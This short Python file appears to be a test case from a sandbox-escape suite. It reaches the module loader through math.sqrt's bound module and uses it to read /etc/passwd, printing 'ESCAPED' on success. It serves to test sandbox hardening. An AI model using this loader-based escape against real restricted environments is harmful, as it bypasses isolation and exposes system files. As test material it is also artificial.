# tries: the module behind a facade's C function
# class: globals
# stops: 1 2 3 4
def use(opener):
    print("REACHED")
    if "root:" in opener("/etc/passwd").read():
        print("ESCAPED")


import math

loader = math.sqrt.__self__.__loader__
if hasattr(loader, "get_data"):
    use(lambda path: type("L", (), {"read": lambda self: str(loader.get_data(path))})())
else:
    use(loader.load_module("_io").open)
